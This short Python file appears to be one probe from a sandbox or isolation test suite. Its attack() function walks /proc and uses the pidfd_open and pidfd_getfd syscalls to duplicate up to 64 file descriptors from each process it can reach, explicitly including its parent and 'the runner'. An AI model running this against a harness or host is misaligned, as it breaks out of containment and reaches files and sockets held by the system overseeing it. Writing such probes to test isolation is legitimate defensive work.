"""Duplicates descriptors out of its parent, its siblings and the runner by pidfd_getfd."""

import ctypes
import os

STATUS, RESULT, NEEDS = "ok", [], "own uid"
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack():
    libc, got = ctypes.CDLL(None), []
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid == os.getpid() or (handle := libc.syscall(PIDFD_OPEN, pid, 0)) < 0:
            continue
        for number in range(64):
            if (taken := libc.syscall(PIDFD_GETFD, handle, number, 0)) >= 0:
                got.append(f"descriptor {number} of {pid}")
                os.close(taken)
        os.close(handle)
    return got
